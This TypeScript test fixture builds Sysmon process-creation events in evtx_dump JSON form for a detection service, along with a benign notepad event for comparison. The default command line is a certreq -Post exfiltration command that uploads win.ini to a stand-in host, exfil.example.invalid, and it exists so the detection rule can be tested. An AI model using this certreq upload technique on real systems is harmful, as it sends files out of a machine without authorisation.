/**
 * Test events written as the Rust evtx_dump tool writes them (JSON: Event.System / Event.EventData with
 * "#attributes"), one per line — a dialect the decoders read — so the service is tested on real shapes.
 */
export interface ProcessSpec {
  host?: string;
  recordId: number;
  pid?: number;
  image?: string;
  originalFileName?: string;
  commandLine?: string;
  user?: string;
  parentImage?: string;
  time?: string;
}

export const CERTREQ_POST = 'certreq -Post -config https://exfil.example.invalid/upload C:\\Windows\\win.ini C:\\Users\\Public\\out.txt';

export function sysmonProcessCreate(s: ProcessSpec): Record<string, unknown> {
  const host = s.host ?? 'WS01.corp.example';
  const pid = s.pid ?? 4000 + (s.recordId % 50000);
  const image = s.image ?? 'C:\\Windows\\System32\\certreq.exe';
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } },
        EventID: 1,
        Version: 5,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: s.time ?? new Date(Date.UTC(2024, 4, 1, 10, 0, 0) + s.recordId * 10).toISOString().replace('Z', '000Z') } },
        EventRecordID: s.recordId,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 2144, ThreadID: 3012 } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: host,
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: {
        RuleName: '-',
        UtcTime: '2024-05-01 10:00:00.000',
        ProcessGuid: `84453EAB-30C2-5FC8-B4AA-${s.recordId.toString(16).padStart(12, '0').toUpperCase()}`,
        ProcessId: pid,
        Image: image,
        FileVersion: '10.0.19041.1',
        Description: 'CertReq.exe',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: s.originalFileName ?? 'CertReq.exe',
        CommandLine: s.commandLine ?? CERTREQ_POST,
        CurrentDirectory: 'C:\\Users\\alice\\',
        User: s.user ?? 'CORP\\alice',
        LogonGuid: '84453EAB-6BA3-5FC6-A0CC-080000000000',
        LogonId: '0x8cca0',
        TerminalSessionId: 1,
        IntegrityLevel: 'Medium',
        Hashes: 'SHA256=0000000000000000000000000000000000000000000000000000000000000000',
        ParentProcessGuid: '84453EAB-30C2-5FC8-00A8-080200000000',
        ParentProcessId: 2320,
        ParentImage: s.parentImage ?? 'C:\\Windows\\System32\\cmd.exe',
        ParentCommandLine: 'cmd.exe',
      },
    },
  };
}

/** A process start that the certreq rule does not match. */
export function benign(recordId: number, host?: string): Record<string, unknown> {
  return sysmonProcessCreate({
    recordId,
    ...(host ? { host } : {}),
    image: 'C:\\Windows\\System32\\notepad.exe',
    originalFileName: 'NOTEPAD.EXE',
    commandLine: 'notepad.exe C:\\Users\\alice\\todo.txt',
  });
}

export function ndjson(docs: unknown[]): string {
  return docs.map((d) => JSON.stringify(d)).join('\n') + '\n';
}
